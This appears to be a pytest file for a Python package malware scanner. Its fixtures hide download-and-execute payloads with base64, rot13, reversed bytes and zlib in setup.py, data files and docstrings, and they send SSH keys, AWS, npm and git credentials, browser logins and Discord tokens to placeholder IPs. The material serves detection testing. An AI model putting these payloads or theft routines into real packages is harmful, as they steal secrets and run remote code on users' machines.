"""Where malware hides its payload and how it sends what it stole, in shapes last round's
fixtures did not cover (``../shared/design/detection-notes.md``): a payload in a data file of the
package, in ``long_description`` or a docstring; rot13, reversed bytes, integer lists, base64 of
base64; sinks beyond ``requests`` (``http.client``, ``urllib3``, ``smtplib``, ``ftplib``, raw
sockets, ``httpx``, ``aiohttp``); credential files; native payloads; instructions hidden for AI
agents in an MCP tool description. Inert text, documentation addresses only."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from tests.core.capabilities.variant_scan import assert_high_with, scan

SCRIPT = "import os; os.system('curl -s http://192.0.2.44/i.sh | sh')"
B64 = base64.b64encode(SCRIPT.encode()).decode()
B64B64 = base64.b64encode(B64.encode()).decode()
ROT13 = codecs.encode(SCRIPT, "rot13")
REVERSED = SCRIPT[::-1]
INTS = ", ".join(str(b) for b in SCRIPT.encode())
STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://203.0.113.9/c', data=str(dict(os.environ)).encode())\n"
)
ZB64 = base64.b64encode(zlib.compress(SCRIPT.encode())).decode()

VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    # payload carriers
    "data_file_exec_at_import": (
        {
            "pkg/__init__.py": "import os, base64\n"
            "_p = os.path.join(os.path.dirname(__file__), 'assets', 'font.dat')\n"
            "exec(base64.b64decode(open(_p).read()))\n",
            "pkg/assets/font.dat": B64,
        },
        ("chain.decode_exec", "place.import_time"),
    ),
    "json_file_exec_in_setup": (
        {
            "setup.py": "import json, base64\nfrom setuptools import setup\n"
            "cfg = json.load(open('pkg/config.json'))\n"
            "exec(base64.b64decode(cfg['init']))\n"
            "setup(name='pkg', version='1.0')\n",
            "pkg/__init__.py": "",
            "pkg/config.json": '{"init": "' + B64 + '"}',
        },
        ("chain.decode_exec", "place.install_time"),
    ),
    "png_tail_exec": (
        {
            "pkg/__init__.py": "import pathlib, zlib\n"
            "_d = (pathlib.Path(__file__).parent / 'logo.png').read_bytes()\n"
            "exec(zlib.decompress(_d[_d.index(b'IEND') + 8:]))\n",
            "pkg/logo.png": "\x89PNG IEND0000xxxx",
        },
        ("chain.decode_exec", "place.import_time", "disguise.encoded_exec"),
    ),
    "long_description_exec": (
        {
            "setup.py": "import base64\nfrom setuptools import setup\n"
            f"long_description = '{B64}'\n"
            "exec(base64.b64decode(long_description))\n"
            "setup(name='pkg', version='1.0', long_description=long_description)\n",
        },
        ("chain.decode_exec", "place.install_time"),
    ),
    "docstring_exec": (
        {
            "pkg/__init__.py": f'"""{B64}"""\nimport base64\nexec(base64.b64decode(__doc__))\n',
        },
        ("chain.decode_exec", "place.import_time"),
    ),
    "rot13_exec": (
        {
            "pkg/__init__.py": f"import codecs\nexec(codecs.decode({ROT13!r}, 'rot13'))\n",
        },
        ("chain.decode_exec", "chain.download_execute"),
    ),
    "reversed_bytes_exec": (
        {
            "pkg/__init__.py": f"exec(bytes(reversed({REVERSED.encode()!r})))\n",
        },
        ("chain.decode_exec", "chain.download_execute"),
    ),
    "int_list_exec": (
        {
            "pkg/__init__.py": f"exec(bytes([{INTS}]).decode())\n",
        },
        ("chain.decode_exec", "chain.download_execute"),
    ),
    "base64_of_base64": (
        {
            "pkg/__init__.py": f"import base64\nexec(base64.b64decode(base64.b64decode('{B64B64}')))\n",
        },
        ("chain.decode_exec", "chain.download_execute"),
    ),
    "zlib_b64_in_setup_function": (
        {
            "setup.py": "import zlib, base64\nfrom setuptools import setup\n"
            f"def _prep():\n    exec(zlib.decompress(base64.b64decode('{ZB64}')))\n"
            "_prep()\nsetup(name='pkg', version='1.0')\n",
        },
        ("chain.decode_exec", "chain.download_execute"),
    ),
    # exfiltration sinks
    "http_client_env": (
        {
            "pkg/__init__.py": "import http.client, json, os\n"
            "c = http.client.HTTPConnection('203.0.113.19', 8080)\n"
            "c.request('POST', '/u', json.dumps(dict(os.environ)))\n",
        },
        ("chain.exfiltration",),
    ),
    "urllib3_aws_credentials": (
        {
            "pkg/__init__.py": "import os, urllib3\n"
            "_c = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "urllib3.PoolManager().request('POST', 'http://198.51.100.33/a', body=_c)\n",
        },
        ("chain.exfiltration",),
    ),
    "smtplib_ssh_key": (
        {
            "pkg/__init__.py": "import os, smtplib\n"
            "_k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "s = smtplib.SMTP('192.0.2.25', 25)\n"
            "s.sendmail('a@example.invalid', ['b@example.invalid'], _k)\n",
        },
        ("chain.exfiltration",),
    ),
    "ftplib_pypirc": (
        {
            "pkg/__init__.py": "import os, ftplib, io\n"
            "_d = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n"
            "f = ftplib.FTP('203.0.113.21')\nf.login('u', 'p')\n"
            "f.storbinary('STOR r.txt', io.BytesIO(_d))\n",
        },
        ("chain.exfiltration",),
    ),
    "raw_socket_env_copy": (
        {
            "pkg/__init__.py": "import os, socket\n"
            "s = socket.create_connection(('192.0.2.60', 4444))\n"
            "s.sendall(repr(os.environ.copy()).encode())\n",
        },
        ("chain.exfiltration",),
    ),
    "httpx_npmrc": (
        {
            "pkg/__init__.py": "import os, httpx\n"
            "_t = open(os.path.join(os.path.expanduser('~'), '.npmrc')).read()\n"
            "httpx.post('http://198.51.100.70/n', content=_t)\n",
        },
        ("chain.exfiltration",),
    ),
    "aiohttp_git_credentials": (
        {
            "pkg/__init__.py": "import os, asyncio, aiohttp\n"
            "async def _go():\n"
            "    d = open(os.path.expanduser('~/.git-credentials')).read()\n"
            "    async with aiohttp.ClientSession() as s:\n"
            "        await s.post('http://203.0.113.81/g', data=d)\n"
            "asyncio.run(_go())\n",
        },
        ("chain.exfiltration",),
    ),
    "recon_to_ip_urlopen": (
        {
            "setup.py": "import getpass, socket, urllib.request\nfrom setuptools import setup\n"
            "urllib.request.urlopen('http://192.0.2.99/r?u=' + getpass.getuser() + '&h=' + socket.gethostname())\n"
            "setup(name='pkg', version='1.0')\n",
        },
        ("chain.exfiltration",),
    ),
    "discord_by_ip_login_data": (
        {
            "pkg/__init__.py": "import os, requests\n"
            "_p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "requests.post('http://203.0.113.50/api/webhooks/1/x', files={'f': open(_p, 'rb')})\n",
        },
        ("chain.exfiltration",),
    ),
    # plain Python in a data file of the package, run by its own code
    "setup_execs_txt_file": (
        {
            "setup.py": "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n"
            "exec(open(os.path.join(here, 'pkg', 'assets', 'defaults.txt')).read())\n"
            "setup(name='pkg', version='1')\n",
            "pkg/__init__.py": "",
            "pkg/assets/defaults.txt": SCRIPT + "\n",
        },
        ("chain.download_execute", "place.install_time"),
    ),
    "import_execs_dat_file_in_with": (
        {
            "pkg/__init__.py": "import os\n"
            "with open(os.path.join(os.path.dirname(__file__), 'cache.dat')) as f:\n    exec(f.read())\n",
            "pkg/cache.dat": SCRIPT + "\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "runpy_runs_bin_file": (
        {
            "pkg/__init__.py": "import runpy, os\n"
            "runpy.run_path(os.path.join(os.path.dirname(__file__), 'res', 'init.bin'))\n",
            "pkg/res/init.bin": STEAL,
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    "interpreter_started_on_txt_in_setup": (
        {
            "setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
            "subprocess.Popen([sys.executable, 'pkg/helper.txt'])\nsetup(name='pkg', version='1')\n",
            "pkg/__init__.py": "",
            "pkg/helper.txt": SCRIPT + "\n",
        },
        ("chain.download_execute", "place.install_time"),
    ),
    # secrets by name and history files, sent at import
    "aws_keys_by_name": (
        {
            "pkg/__init__.py": "import os, requests\nrequests.post('http://192.0.2.121/k', data={"
            "'a': os.environ.get('AWS_ACCESS_KEY_ID'), 's': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n",
        },
        ("chain.exfiltration", "chain.exfil_endpoint", "place.import_time"),
    ),
    "shell_history_base64_in_query": (
        {
            "pkg/__init__.py": "import os, base64, requests\n"
            "h = open(os.path.expanduser('~/.bash_history')).read()\n"
            "requests.get('http://198.51.100.5/?d=' + base64.b64encode(h.encode()).decode())\n",
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    "environment_spread_to_domain": (
        {
            "pkg/__init__.py": "import os, json, http.client\n"
            "c = http.client.HTTPSConnection('exfil.example.invalid')\n"
            "c.request('POST', '/x', body=json.dumps({**os.environ}))\n",
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    "spec_from_file_location_on_dat": (
        {
            "pkg/__init__.py": "import importlib.util, os\n"
            "_p = os.path.join(os.path.dirname(__file__), 'x.dat')\n"
            "spec = importlib.util.spec_from_file_location('x', _p)\n"
            "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
            "pkg/x.dat": SCRIPT + "\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "source_file_loader_on_txt": (
        {
            "pkg/__init__.py": "from importlib.machinery import SourceFileLoader\nimport os\n"
            "SourceFileLoader('h', os.path.join(os.path.dirname(__file__), 'h.txt')).load_module()\n",
            "pkg/h.txt": SCRIPT + "\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "websocket_environment": (
        {
            "pkg/__init__.py": "import os, json, websocket\n"
            "ws = websocket.create_connection('ws://203.0.113.61:8765/')\n"
            "ws.send(json.dumps(dict(os.environ)))\n",
        },
        ("chain.exfiltration",),
    ),
    "curl_uploads_ssh_key_from_setup": (
        {
            "setup.py": "import subprocess, os\nfrom setuptools import setup\n"
            "subprocess.run(['curl', '-s', '-F', 'f=@' + os.path.expanduser('~/.ssh/id_rsa'), "
            "'http://198.51.100.44/u'])\nsetup(name='pkg', version='1')\n",
        },
        ("chain.exfiltration", "place.install_time"),
    ),
    "telegram_by_ip_sends_discord_tokens": (
        {
            "pkg/__init__.py": "import os, requests\n"
            "p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
            "for f in os.listdir(p):\n"
            "    requests.post('http://198.51.100.9/bot123:abc/sendDocument', data={'chat_id': 1}, "
            "files={'document': open(os.path.join(p, f), 'rb')})\n",
        },
        ("chain.exfiltration",),
    ),
}


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_each_carrier_and_sink_is_high_with_its_threat(name, tmp_path):
    files, expected = VARIANTS[name]
    assert_high_with(name, scan(files, tmp_path, encoding="latin-1"), expected)


def test_a_version_file_executed_by_setup_is_no_threat(tmp_path):
    """``exec(open("pkg/VERSION.txt").read())`` beside ``open("README.md")`` is how thousands of
    setup.py files read their version: both files are read as Python, neither acts."""
    files = {
        "setup.py": "from setuptools import setup\nns = {}\n"
        "exec(open('pkg/VERSION.txt').read(), ns)\nlong = open('README.md').read()\n"
        "setup(name='pkg', version=ns['__version__'], long_description=long)\n",
        "pkg/__init__.py": "",
        "pkg/VERSION.txt": "__version__ = '1.2.3'\n",
        "README.md": "# pkg\n\nInstall with `pip install pkg`, then `curl http://example.invalid`.\n",
    }
    result = scan(files, tmp_path, encoding="latin-1")
    assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]


def test_a_data_file_nobody_runs_stays_data(tmp_path):
    """The same script in a data file that no code runs is text, shown one step lower."""
    files = {"pkg/__init__.py": "VERSION = '1.0'\n", "pkg/assets/defaults.txt": SCRIPT + "\n"}
    result = scan(files, tmp_path, encoding="latin-1")
    assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
